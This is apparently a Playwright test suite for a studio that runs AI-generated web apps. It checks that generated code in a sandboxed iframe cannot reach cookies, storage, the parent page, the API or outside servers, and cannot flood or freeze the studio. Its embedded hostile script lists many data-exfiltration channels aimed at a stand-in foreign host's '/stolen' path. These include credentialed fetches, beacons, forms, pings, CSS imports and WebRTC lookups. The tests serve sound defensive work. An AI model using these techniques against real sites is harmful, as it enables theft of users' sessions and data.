"""Generated code that means harm, in a running app: it reaches nothing, from the frame or from a window of its own."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager, suppress
from pathlib import Path

import pytest
from playwright.async_api import Browser, Error, Frame, Page

from tests.support.browser_setup import launched_browser
from tests.support.servers.cutting_proxy import CuttingProxy
from tests.support.servers.manual_model import ManualModel
from tests.support.servers.raw_server import raw_server
from tests.support.servers.server_process import ServerProcess
from tests.support.users import app_user
from tests.support.users.browser_user import BrowserUser

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

HOSTILE = """<!doctype html><body><h1>Hostile</h1><script>
if (location.pathname === "/loop") location.reload();
const failing = (target, good, bad) => new Promise((ok, no) => {
  target[good] = () => ok("reached");
  target[bad] = () => no(new Error("blocked"));
});
const fresh = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
const getter = (type, name, target) => Object.getOwnPropertyDescriptor(type.prototype ?? type, name).get.call(target);
const tries = (here, there) => ({
  cookie: () => getter(Document, "cookie", document),
  storageOfAFreshFrame: () => fresh().localStorage.getItem("secret"),
  databaseOfAFreshFrame: () => new Promise((ok, no) => {
    const opening = fresh().indexedDB.open("x");
    opening.onsuccess = ok;
    opening.onerror = no;
  }),
  parentDocument: () => parent.document.body.innerHTML,
  parentStorage: () => parent.localStorage.getItem("secret"),
  parentCookie: () => parent.document.cookie,
  parentScript: () => parent.eval("1"),
  topAddress: () => top.location.href,
  api: () => fetch(`${here}/api/projects?stolen`, { credentials: "include" }),
  apiBlind: () => fetch(`${here}/api/auth/logout?stolen`, { method: "POST", mode: "no-cors", credentials: "include" }),
  fetchOfAFreshFrame: () => fresh().fetch(`${there}/stolen`, { mode: "no-cors" }),
  request: () => { const r = new XMLHttpRequest(); r.open("GET", `${here}/stolen`, false); r.send(); },
  image: () => { const i = new Image(); i.src = `${there}/stolen`; return failing(i, "onload", "onerror"); },
  script: () => {
    const s = document.createElement("script");
    s.src = `${there}/stolen`;
    document.head.append(s);
    return failing(s, "onload", "onerror");
  },
  socket: () => {
    const address = here.replace("http", "ws");
    return failing(new WebSocket(`${address}/_nicegui_ws/socket.io/?stolen`), "onopen", "onerror");
  },
  events: () => failing(new EventSource(`${there}/stolen`), "onopen", "onerror"),
  worker: () => failing(new Worker(URL.createObjectURL(new Blob([`postMessage(1)`]))), "onmessage", "onerror"),
  window: () => { if (!window.open(`${there}/stolen`)) throw new Error("blocked"); },
});
// What says nothing of its success: the addresses and the servers tell.
const silently = (here, there) => {
  const form = document.createElement("form");
  Object.assign(form, { action: `${there}/stolen`, method: "post", target: "_top" });
  const button = document.createElement("button");
  button.addEventListener("click", (event) => event.stopImmediatePropagation());
  form.append(button);
  const link = Object.assign(document.createElement("a"), { href: `${there}/stolen`, target: "_top" });
  link.addEventListener("click", (event) => event.stopImmediatePropagation());
  const ping = Object.assign(document.createElement("a"), { href: "#", ping: `${there}/stolen` });
  const style = document.createElement("style");
  style.textContent = `@import "${there}/stolen"; body { background: url(${there}/stolen) }`;
  const prefetch = Object.assign(document.createElement("link"), { rel: "prefetch", href: `${there}/stolen` });
  const child = Object.assign(document.createElement("iframe"), { src: `${there}/stolen` });
  const object = Object.assign(document.createElement("object"), { data: `${there}/stolen` });
  document.body.append(form, link, ping, style, prefetch, child, object);
  for (const act of [
    () => navigator.sendBeacon(`${there}/stolen`),
    () => button.click(),
    () => link.click(),
    () => ping.click(),
    () => (top.location = `${there}/stolen`),
    () => top.history.back(),
    () => top.close(),
    () => open(`${there}/stolen`, "_top"),
  ]) try { act(); } catch {}
};
const reached = async (here, there, but = "none") => {
  const found = [];
  for (const [name, act] of Object.entries(tries(here, there)))
    if (!name.match(but)) try { await act(); found.push(name); } catch {}
  return found;
};
</script>"""
PAUSES = """async (time) => {
  let last = performance.now(), longest = 0;
  const end = last + time;
  while (last < end) {
    await new Promise((resume) => setTimeout(resume, 10));
    longest = Math.max(longest, performance.now() - last);
    last = performance.now();
  }
  return longest;
}"""
ANSWER = f"### FILE: index.html\n```html\n{HOSTILE}\n```\n"


class RecordingProxy(CuttingProxy):
    """A proxy before the product that records what it is asked."""

    def __init__(self, target: str) -> None:
        super().__init__(target, {})
        self.heard = b""

    async def _up(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(65536):
            self.heard += data
            writer.write(data)
            await writer.drain()


class ForeignServer:
    """Another server, which must not be asked anything."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Remember a request, and answer it."""
        try:
            if line := await reader.readline():
                self.heard.append(line)
                writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")
        finally:
            writer.close()
            await writer.wait_closed()


@asynccontextmanager
async def scene(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel, name: str
) -> AsyncGenerator[tuple[BrowserUser, RecordingProxy, ForeignServer, str], None]:
    """Somebody who looks at a hostile app, what the product heard, another server with its address."""
    proxy, foreign_server = RecordingProxy(product.url), ForeignServer()
    async with raw_server(proxy.serve) as here, raw_server(foreign_server.serve) as there:
        visitor = await BrowserUser.open_window(chromium, here)
        try:
            await visitor.register(name)
            await visitor.page.evaluate("localStorage.setItem('secret', 'mine')")
            await visitor.create_project()
            await visitor.press("Generate Frontend (Live)")
            manual_model.write(ANSWER)
            manual_model.finish()
            await visitor.wait_for_code(ANSWER, "frontend")
            await visitor.press("App")
            await shown(visitor)
            yield visitor, proxy, foreign_server, there
        finally:
            await visitor.context.close()


async def inside(visitor: BrowserUser) -> Frame:
    """The app's frame, even if another one takes its place in this moment."""
    while True:
        element = await visitor.page.wait_for_selector("[data-testid=app]")
        assert element
        if frame := await element.content_frame():
            return frame


async def shown(visitor: BrowserUser) -> None:
    """The page is in its frame, or will be in a moment."""
    await visitor.page.frame_locator("[data-testid=app]").get_by_role("heading", name="Hostile").wait_for()


async def reload(visitor: BrowserUser) -> None:
    """Load the app anew, and wait until it shows."""
    await app_user.reload(visitor)
    await shown(visitor)


async def settled(page: Page) -> None:
    """Whatever was about to be asked has been, or will not be."""
    await page.wait_for_timeout(1500)


async def test_code_in_the_frame_reaches_nothing(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-frame") as (visitor, proxy, foreign_server, there):
        before = visitor.page.url
        assert (
            await (await inside(visitor)).evaluate("([here, there]) => reached(here, there)", [visitor.url, there])
            == []
        )
        await (await inside(visitor)).evaluate("([here, there]) => silently(here, there)", [visitor.url, there])
        await settled(visitor.page)
        assert foreign_server.heard == []
        assert b"stolen" not in proxy.heard
        assert visitor.page.url == before
        assert len(visitor.context.pages) == 1
        await visitor.page.reload()
        assert visitor.page.url == before, "they are still signed in"


async def test_a_frame_that_leaves_gets_nowhere(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-leaver") as (visitor, proxy, foreign_server, there):
        for address in (f"{there}/stolen", f"{visitor.url}/api/stolen", f"{visitor.url}/login?stolen"):
            await reload(visitor)
            await (await inside(visitor)).evaluate("(address) => void (location.href = address)", address)
            await settled(visitor.page)
        assert foreign_server.heard == []
        assert b"stolen" not in proxy.heard
        await reload(visitor)
        await (await inside(visitor)).evaluate(
            "void (location.href = '/app-files/0')"
        )  # no cookie goes along, and none comes
        await settled(visitor.page)
        await visitor.page.reload()
        assert "/projects/" in visitor.page.url, "they are still signed in"


WAYS_OUT = {
    "assign": "location.href = address",
    "refresh": """document.head.append(
        Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${address}` }))""",
    "child": """document.body.append(Object.assign(document.createElement("iframe"), { src: address }))""",
    "child-location": """const child = document.createElement("iframe");
        document.body.append(child); child.contentWindow.location = address""",
    "preconnect": """document.head.append(
        Object.assign(document.createElement("link"), { rel: "preconnect", href: address }))""",
    "peer": """const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(address).hostname}:3478` }] });
        peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))""",
}


WAYS_AT_ONCE = (("child", "child-location", "preconnect", "peer"), ("refresh",), ("assign",))
"""The page itself leaves by the last two."""


async def test_no_name_is_looked_up_for_code_in_the_frame(
    product: ServerProcess, manual_model: ManualModel, tmp_path: Path
) -> None:
    log = tmp_path / "net.json"
    async with (
        launched_browser(f"--log-net-log={log}") as browser,
        scene(browser, product, manual_model, "hostile-resolver") as (visitor, _, _, _),
    ):
        for names in WAYS_AT_ONCE:
            await reload(visitor)
            for name in names:
                with suppress(Error):  # one way is not even there
                    await (await inside(visitor)).evaluate(
                        f"(address) => {{ {WAYS_OUT[name]} }}", f"http://secret.{name}.test/"
                    )
            await settled(visitor.page)
        page = await visitor.context.new_page()
        with suppress(Error):
            await page.goto("http://seen.in-the-log.test/")
    heard = log.read_text("utf-8", "replace")
    assert "seen.in-the-log.test" in heard
    assert [name for name in WAYS_OUT if f"secret.{name}.test" in heard] == []


async def test_opened_by_itself_it_is_shut_in_as_well(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-window") as (visitor, proxy, foreign_server, there):
        page = await visitor.context.new_page()
        await page.goto(f"{visitor.url}/app-frame")
        script = HOSTILE.partition("<script>")[2].partition("</script>")[0]
        await page.evaluate("(script) => void document.head.append(Object.assign(document.createElement('script'),"
                            " { textContent: script }))", script)  # fmt: skip
        assert await page.evaluate("self.origin") == "null"
        tries = "([here, there]) => reached(here, there, '^(parent|top)')"
        assert await page.evaluate(tries, [visitor.url, there]) == []
        await settled(page)
        assert foreign_server.heard == []
        assert b"?stolen" not in proxy.heard


async def test_others_see_no_more_than_of_a_run_that_is_not_there(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-owner") as (visitor, _, _, _):
        runs = await visitor.page.evaluate("performance.getEntriesByType('resource').map((each) => each.name)")
        address = next(each for each in runs if "/app-files/" in each).replace(visitor.url, "")
        other = await BrowserUser.open_window(chromium, product.url)
        nobody = await other.page.request.get(product.url + address)
        await other.register("hostile-eve")
        eve = await other.page.request.get(product.url + address)
        absent = await other.page.request.get(f"{product.url}/app-files/0")
        assert [each.status for each in (nobody, eve, absent)] == [404, 404, 404]
        assert await nobody.text() == await eve.text() == await absent.text()
        own = await visitor.page.request.get(visitor.url + address)
        assert own.status == 200
        assert own.headers["cache-control"] == "no-store"
        for address in ("/app-frame", "/app-frame/worker"):
            frame = await visitor.page.request.get(visitor.url + address)
            assert frame.headers["content-security-policy"].startswith(
                "sandbox allow-scripts allow-forms; default-src 'none';"
            )
            assert frame.headers["cache-control"] == "no-store"
            assert frame.headers["referrer-policy"] == "no-referrer"
            assert frame.headers["x-content-type-options"] == "nosniff"
        assert await visitor.page.get_by_test_id("app").get_attribute("sandbox") == "allow-scripts allow-forms"
        await other.context.close()


async def test_only_the_frame_is_listened_to_and_not_without_end(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-talker") as (visitor, _, _, _):
        await visitor.page.evaluate("postMessage({livewright: 'error', text: 'from elsewhere'}, '*')")
        flood = "for (let i = 0; i < 1500; i++) parent.postMessage({...said, text: 'x'.repeat(9e3)}, '*')"
        await (await inside(visitor)).evaluate(
            "() => { for (const bad of [null, 1, {}, {livewright: 'error', text: {}},"
            " {livewright: '__proto__', text: 'odd'}, {livewright: 'request'}, {livewright: 'navigate', url: {}},"
            " {livewright: 'storage', area: '__proto__', values: {}}]) parent.postMessage(bad, '*'); }"
        )
        await (await inside(visitor)).evaluate(f"() => {{ const said = {{livewright: 'error'}}; {flood} }}")
        strip = visitor.page.get_by_test_id("app-console")
        await strip.get_by_role("tab", name="Output").click()
        await strip.get_by_text("more: reload to listen again").wait_for()
        lines = await strip.locator(".line.error .text").all_inner_texts()
        assert 100 < len(lines) <= 200
        assert max(map(len, lines)) <= 500
        text = await strip.inner_text()
        assert "from elsewhere" not in text
        assert "odd" not in text


async def test_a_page_that_logs_without_end_freezes_nothing(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-logger") as (visitor, _, _, _):
        # Fewer lines than a person's browser bears: the one that is driven from here reports each.
        flood = "() => void setTimeout(() => { for (let i = 0; i < 20_000; i++) console.log('x'.repeat(10_000)); })"
        await (await inside(visitor)).evaluate(flood)
        longest = await visitor.page.evaluate(PAUSES, 3000)
        assert longest < 1000, "milliseconds in which the studio did nothing"
        strip = visitor.page.get_by_test_id("app-console")
        await strip.get_by_role("tab", name="Output").click(timeout=60_000)
        await strip.get_by_text("more: reload to listen again").wait_for(timeout=30_000)
        assert await strip.locator(".line").count() <= 200


async def test_a_page_that_sends_messages_past_the_console_is_stopped(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-sender") as (visitor, _, _, _):
        said = "{livewright: 'error', text: 'x'}"
        flood = f"for (let i = 0; i < 50; i++) parent.postMessage({said}, '*')"
        await (await inside(visitor)).evaluate(f"() => void setInterval(() => {{ {flood} }}, 0)")
        await visitor.page.get_by_text("This page sent messages without end").wait_for(timeout=60_000)
        assert await visitor.page.get_by_test_id("app").count() == 0
        await reload(visitor)


async def test_a_page_that_loads_itself_is_shown_again_but_not_for_ever(
    chromium: Browser, product: ServerProcess, manual_model: ManualModel
) -> None:
    async with scene(chromium, product, manual_model, "hostile-reloader") as (visitor, _, _, _):
        await (await inside(visitor)).evaluate("window.isOld = true")
        await (await inside(visitor)).evaluate("() => void location.reload()")
        await settled(visitor.page)
        await shown(visitor)
        assert await (await inside(visitor)).evaluate("window.isOld") is None
        await (await inside(visitor)).evaluate("() => { history.pushState(null, '', '/loop'); location.reload(); }")
        await visitor.page.get_by_text("This page loads itself again and again").wait_for()
        await visitor.press("Reset data")
        await visitor.press("Delete it")
        await shown(visitor)
